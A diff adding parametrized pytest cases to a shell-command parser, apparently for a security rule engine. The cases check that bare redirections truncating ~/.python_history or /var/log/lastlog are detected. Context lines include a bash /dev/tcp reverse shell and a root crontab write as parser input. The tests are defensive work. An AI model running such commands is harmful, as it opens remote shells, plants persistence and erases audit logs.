@@ -501,6 +501,21 @@ def test_parse_redirects_attach_to_the_command() -> None:
     assert tee.stdin_text == "* * * * * root x\n"
 
 
+@pytest.mark.parametrize(
+    "command, op, target",
+    [
+        ("> ~/.python_history", ">", "/root/.python_history"),
+        (">| /var/log/lastlog", ">|", "/var/log/lastlog"),
+        ("cd /srv && >> notes.txt", ">>", "notes.txt"),
+    ],
+)
+def test_parse_bare_redirection_is_a_null_command(command: str, op: str, target: str) -> None:
+    # bash opens (and for > truncates) the file even though no program runs: rules must see it.
+    result = parse(command)
+    null = _find(result, ":")
+    assert [(r.op, r.target) for r in null.redirects] == [(op, target)]
+
+
 def test_parse_redirect_descriptor_glued_to_next_redirect() -> None:
     result = parse("bash -i >& /dev/tcp/192.0.2.1/443 0>&1")
     bash = _find(result, "bash")
